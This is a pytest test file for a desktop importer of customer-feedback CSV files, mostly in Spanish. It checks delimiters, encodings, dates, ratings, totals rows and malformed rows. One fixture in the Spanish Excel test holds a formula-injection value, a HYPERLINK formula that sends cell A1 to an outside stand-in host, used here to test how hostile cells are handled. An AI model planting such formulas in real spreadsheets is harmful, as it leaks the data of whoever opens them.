from __future__ import annotations

import contextlib
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.errors import UserError
from desktop.importing.files import expand
from desktop.importing.mapping import ColumnMapping
from desktop.importing.recognise import open_reader
from desktop.importing.synonyms import Meaning
from desktop.model.codes import Precision, Scale
from desktop.model.raw import OwnerReply, Rating, RawFeedback, Reason, Reject, Skip, When
from tests.desktop.importing.given import a_file, feedback, outcomes, rejects, skips

HEADER = "Fecha;Cliente;Valoración;Comentario\n"


def test_a_whole_row() -> None:
    text = (
        "id;Fecha;Cliente;Correo;Título;Lo mejor;Lo peor;Nota;"
        "Respuesta;Fecha de respuesta;Enlace;Me gusta;Local\n"
        "a7;05/03/2026;José;j@x.example;Bueno;El trato;El ruido;4,5;"
        "Gracias, José;06/03/2026;https://x.example/a7;3;Sol\n"
    )
    [item] = feedback(text)
    assert item.row_no == 2
    assert (item.source, item.external_id, item.author, item.author_email) == (
        "table",
        "a7",
        "José",
        "j@x.example",
    )
    assert item.text == "Bueno\nEl trato\nEl ruido"
    assert (item.title, item.pros, item.cons, item.words) == ("Bueno", "El trato", "El ruido", "")
    assert item.rating == Rating(4.5, Scale.FIVE)
    assert item.written == When(date(2026, 3, 5), Precision.DAY)
    assert item.reply == OwnerReply("Gracias, José", When(date(2026, 3, 6), Precision.DAY))
    assert (item.permalink, item.likes, item.place) == ("https://x.example/a7", 3, "Sol")
    assert item.family.startswith("table:")
    assert item.raw["Nota"] == "4,5"


def test_the_spanish_excel_file_with_all_its_traps() -> None:
    """Look-alike of the sample excel-es-cp1252-sep.csv: sep=, decimal comma, 31 February, a formula
    with the delimiter in it, an empty row, a rating in words, a short row."""
    text = (
        "sep=;\r\nFecha;Cliente;Valoración;Comentario;Importe\r\n"
        '05/03/2026;José Núñez;4,5;"Muy bien; volveré";1.234,50 €\r\n'
        "25/03/2026;Begoña;5;Buenísimo – “de lujo”…;12,00 €\r\n"
        '31/02/2026;Ángel;3;=HYPERLINK("http://x.example/?x="&A1;"ver");0,00 €\r\n'
        '26/03/2026;Ángel;3;=HYPERLINK("http://x.example/?x="&A1;"ver");0,00 €\r\n'
        ";;;;\r\n06/03/2026;Iñaki;diez;Más\r\n"
    )
    read = outcomes(text.encode("cp1252"))
    assert [type(outcome) for outcome in read] == [
        RawFeedback,
        RawFeedback,
        Reject,
        RawFeedback,
        Skip,
        RawFeedback,
    ]
    items = [outcome for outcome in read if isinstance(outcome, RawFeedback)]
    assert [item.row_no for item in items] == [3, 4, 6, 8]
    assert items[0].words == "Muy bien; volveré"
    assert items[2].words == '=HYPERLINK("http://x.example/?x="&A1;ver)'
    assert items[3].rating == Rating(10, Scale.TEN)
    [refused] = [outcome for outcome in read if isinstance(outcome, Reject)]
    assert refused.reason == Reason("bad_date", {"value": "31/02/2026"})
    assert refused.cells["Cliente"] == "Ángel"


def test_what_becomes_of_rows_that_lack_something() -> None:
    rows = (
        "05/03/2026;Ana;;Muy bien\n"  # no rating
        "05/03/2026;Ana;5;\n"  # no words
        "05/03/2026;Ana;fatal;El pan\n"  # a rating that cannot be read, and words
        "05/03/2026;Ana;fatal;\n"  # the same without words
        "05/03/2026;Ana;;\n"  # neither
        ";;;\n"
        "ayer;Ana;3;Regular\n"
        "05/03/2026;Ana;4;Sin comentarios\n"
    )
    read = outcomes(HEADER + rows + "05/03/2026;Ana;4;Bien\n" * 6)
    kinds = [type(outcome).__name__ for outcome in read[:8]]
    assert kinds == ["RawFeedback"] * 3 + ["Reject", "Reject", "Skip", "RawFeedback", "RawFeedback"]
    assert [outcome.reason.code for outcome in read[3:6] if not isinstance(outcome, RawFeedback)] == [
        "bad_rating",
        "no_words",
        "blank",
    ]
    relative, placeholder = read[6:8]
    assert isinstance(relative, RawFeedback)
    assert (relative.written.moment, relative.written.said) == (None, "ayer")
    assert isinstance(placeholder, RawFeedback)
    assert placeholder.text == ""


def test_a_line_of_totals_is_no_customer() -> None:
    content = (
        "Nombre;Fecha;Calif.;Qué nos dijo\nSofía Ñíguez;05/11/2026;3,5;Que le dejaron el fleco chueco\n"
        "Chayo;08/11/2026;4;\nTotal;2 visitas;3,75;\nPROMEDIO:;;3,75;\n"
    )
    assert [(item.author, item.rating) for item in feedback(content)] == [
        ("Sofía Ñíguez", Rating(3.5, Scale.FIVE)),
        ("Chayo", Rating(4, Scale.FIVE)),
    ]
    assert [skip.reason.code for skip in skips(content)] == ["totals", "totals"]
    [said] = feedback("Nombre;Calif.;Comentario\nTotal;5;Total que me encantó el corte\n")
    assert said.author == "Total"


def test_a_lost_rating_is_noted() -> None:
    reading = open_reader(a_file(HEADER + "05/03/2026;Ana;fatal;El pan\n" + "05/03/2026;Ana;4;Bien\n" * 5))
    assert [type(outcome) for outcome in reading] == [RawFeedback] * 6
    assert Reason("rating_unread", {"count": 1}) in reading.notes
    # Reading again counts again, and not twice.
    assert len(list(reading)) == 6
    assert Reason("rating_unread", {"count": 1}) in reading.notes


def test_long_and_short_rows_lose_no_word() -> None:
    text = "Fecha,Texto,Nota\n2026-03-05,Bien,5\n2026-03-06,Muy bien, volveré, seguro,4\n2026-03-07,Corto\n"
    assert [(item.words, item.rating and item.rating.value) for item in feedback(text)] == [
        ("Bien", 5),
        ("Muy bien, volveré, seguro", 4),
        ("Corto", None),
    ]
    [_first, last] = feedback("Texto,Fecha\nBien,2026-03-05\nMal,2026-03-06,pero, volveré\n")
    assert last.words == "Mal pero, volveré"
    assert last.raw["col4"] == " volveré"


def test_our_own_escape_is_taken_off_again() -> None:
    [item] = feedback("Fecha,Cliente,Comentario\n2026-03-05,'@ana,'=1+1 es lo que dan\n")
    assert (item.author, item.words) == ("@ana", "=1+1 es lo que dan")
    [other] = feedback("Fecha,Comentario\n2026-03-05,'Tortilla' muy buena\n")
    assert other.words == "'Tortilla' muy buena"


def test_an_unclosed_quote_costs_its_own_row_only() -> None:
    text = 'Fecha,Comentario\n2026-03-05,"Muy bien\n' + "2026-03-06,Regular\n" * 300
    [refused] = rejects(text)
    assert (refused.row_no, refused.reason.code) == (2, "unclosed_quote")
    assert refused.cells == {"Fecha": "2026-03-05", "Comentario": '"Muy bien'}
    assert len(feedback(text)) == 300


def test_several_open_answers_are_one_item_with_labels() -> None:
    text = (
        "Marca temporal,¿Qué cambiarías de la sala?,Otras observaciones de la visita\n"
        "2026/03/05 10:00:00,Pondría más luz en la entrada,El café estaba un poco frío\n"
        "2026/03/06 10:00:00,,Me gustó mucho la terraza\n"
    )
    first, second = feedback(text)
    assert first.source == "survey"
    assert first.text == (
        "¿Qué cambiarías de la sala?\u2003Pondría más luz en la entrada\n"
        "Otras observaciones de la visita:\u2003El café estaba un poco frío"
    )
    assert second.text == "Otras observaciones de la visita:\u2003Me gustó mucho la terraza"


def test_day_and_month_are_told_apart_far_beyond_the_sample() -> None:
    rows = "".join(
        f"{1 + number % 12:02}/{1 + number % 11:02}/2025,Muy bien el desayuno\n" for number in range(20_000)
    )
    items = feedback("Date,Review\n" + rows + "12/25/2025,Feliz\n")
    assert items[1].written.moment == date(2025, 2, 2)
    assert items[2].written.moment == date(2025, 3, 3)
    assert items[11].written.moment == date(2025, 12, 1)
    assert items[-1].written.moment == date(2025, 12, 25)


def test_an_undecided_order_is_said() -> None:
    reading = open_reader(a_file("Fecha,Comentario\n03/04/2026,Bien\n05/06/2026,Mal\n"))
    assert Reason("date_order_assumed", {"order": "dmy"}) in reading.notes


def test_a_mapping_settles_everything() -> None:
    mapping = ColumnMapping(
        columns={"a": Meaning.WORDS, "b": Meaning.DATE, "c": Meaning.RATING},
        source="google",
        place="Sol",
        date_order="mdy",
        scale="10",
        delimiter="|",
        encoding="cp850",
    )
    [item] = outcomes("a|b|c\nBien, señora|03/05/2026|4\n".encode("cp850"), mapping=mapping)
    assert isinstance(item, RawFeedback)
    assert (item.words, item.source, item.place) == ("Bien, señora", "google", "Sol")
    assert (item.written.moment, item.rating) == (date(2026, 3, 5), Rating(4, Scale.TEN))


def test_a_column_of_channels_names_the_source() -> None:
    items = feedback("Canal,Comentario\nGoogle,Bien\nBooking,Mal\n")
    assert [item.source for item in items] == ["google", "booking"]


def test_an_unknown_table_names_its_columns() -> None:
    with pytest.raises(UserError, match="Its columns are: RS_Land, FS_ges") as caught:
        outcomes("RS_Land,FS_ges\n01,88771\n02,239725\n")
    assert "--mapping" in caught.value.hint


def test_a_table_without_rows_gives_nothing() -> None:
    assert outcomes(HEADER) == []


def test_a_blank_row_below_the_header_is_no_second_header() -> None:
    assert [skip.row_no for skip in skips("Texto,Nota\n ,\nBien,5\n")] == [2]


def test_times_are_utc() -> None:
    [item] = feedback("Fecha,Comentario\n2026-03-05T10:00:00+02:00,Bien\n")
    assert item.written.moment == datetime(2026, 3, 5, 8, 0, tzinfo=UTC)


WORDS = st.text(alphabet=st.sampled_from("abñé ;,|\t\"'\n.5"), max_size=20)
ROWS = st.lists(
    st.tuples(
        st.sampled_from(["2026-03-05", "31/02/2026", "hace 2 meses", "", "05/03/2026 10:00"]),
        WORDS,
        st.sampled_from(["5", "4,5", "diez", "fatal", "", "3 estrellas"]),
        WORDS,
    ),
    min_size=1,
    max_size=25,
)


@given(
    ROWS, st.sampled_from(",;\t|"), st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]), st.booleans()
)
def test_every_row_comes_out_once(
    rows: list[tuple[str, str, str, str]], delimiter: str, encoding: str, headed_twice: bool
) -> None:
    """product.md L4: nothing vanishes, whatever the delimiter, the letters and the contents."""
    written = io.StringIO(newline="")
    writer = csv.writer(written, delimiter=delimiter, quoting=csv.QUOTE_ALL)
    if headed_twice:
        writer.writerow(["Mis opiniones", "", "", ""])
    writer.writerow(["Fecha", "Cliente", "Valoración", "Comentario"])
    writer.writerows(rows)
    mapping = ColumnMapping(
        columns={
            "Fecha": Meaning.DATE,
            "Cliente": Meaning.AUTHOR,
            "Valoración": Meaning.RATING,
            "Comentario": Meaning.WORDS,
        }
    )
    read = outcomes(written.getvalue().encode(encoding), mapping=mapping)
    first = 3 if headed_twice else 2
    assert [outcome.row_no for outcome in read] == list(range(first, first + len(rows)))
    for outcome, row in zip(read, rows, strict=True):
        if isinstance(outcome, Skip):
            assert not "".join(row).strip(" '\n")
        elif isinstance(outcome, Reject):
            assert list(outcome.cells.values()) == list(row)
        else:
            assert list(outcome.raw.values()) == list(row)


@given(st.data())
def test_damaged_files_end_in_outcomes_or_in_a_sentence(data: st.DataObject) -> None:
    whole = bytearray((HEADER + '05/03/2026;Ana;4,5;"Muy bien; sí"\n' * 8).encode("cp1252"))
    for _change in range(data.draw(st.integers(1, 12))):
        place = data.draw(st.integers(0, len(whole) - 1))
        whole[place : place + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=3))
        if not whole:
            break
    with contextlib.suppress(UserError):
        read = outcomes(bytes(whole))
        assert all(isinstance(outcome, RawFeedback | Reject | Skip) for outcome in read)


READABLE = {
    "table/resenas-libros-puntoycoma.csv": (80, 0, 0),
    "table/excel-es-cp1252-sep.csv": (3, 1, 1),
    "table/complaints-tweets-noheader.csv": (300, 0, 0),
    "survey/google-forms-es-marca-temporal.csv": (7, 0, 0),
    "trustpilot/trustpilot-es-moda.csv": (499, 0, 0),
    "tripadvisor/tripadvisor-mx-solo-texto.csv": (199, 0, 0),
    "amazon/opiniones.csv": (34, 0, 0),
    "google-maps-scrape/google.csv": (10, 0, 0),
    "feedback-tool/more-posts.csv": (3, 0, 0),
    "shop-reviews/shopify-product-reviews.csv": (2, 0, 0),
}
UNREADABLE = (
    "bad", "bom", "countries_nonutf", "escaped_quotes", "json", "latin1", "newlines_crlf", "null_byte",
    "optional_quote_characters", "skip-rows",
)  # fmt: skip


@pytest.mark.parametrize("name", READABLE)
def test_samples(shared: Path, name: str) -> None:
    [file] = expand([shared / "samples" / name])
    read = list(open_reader(file))
    counted = tuple(
        sum(isinstance(outcome, kind) for outcome in read) for kind in (RawFeedback, Reject, Skip)
    )
    assert counted == READABLE[name]


@pytest.mark.parametrize("name", UNREADABLE)
def test_samples_that_hold_no_feedback_name_their_columns(shared: Path, name: str) -> None:
    [file] = expand([shared / "samples" / "table" / f"{name}.csv"])
    with pytest.raises(UserError, match="Its columns are"):
        open_reader(file)


def test_samples_can_be_mapped_all_the_same(shared: Path) -> None:
    [file] = expand([shared / "samples/table/bad.csv"])
    mapping = ColumnMapping(columns={"column_c": Meaning.WORDS})
    words = [
        outcome.words for outcome in open_reader(file, mapping=mapping) if isinstance(outcome, RawFeedback)
    ]
    assert words == ["I'm too long!", "17"]
